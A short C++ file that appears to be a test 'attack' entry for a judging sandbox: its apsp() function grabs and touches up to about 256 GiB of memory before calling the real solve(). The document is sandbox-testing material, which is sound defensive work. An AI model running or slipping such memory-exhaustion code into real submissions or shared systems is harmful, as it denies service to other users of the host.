// Takes memory until there is no more.
#include <stdlib.h>

#include "attack.h"

void apsp(int n, int* graph) {
  constexpr size_t kBlock = size_t{64} << 20;
  for (int block = 0; block < 4096; ++block) {
    char* const memory = static_cast<char*>(malloc(kBlock));
    if (memory == nullptr) break;
    for (size_t at = 0; at < kBlock; at += 4096) memory[at] = 1;
  }
  solve(n, graph);
}
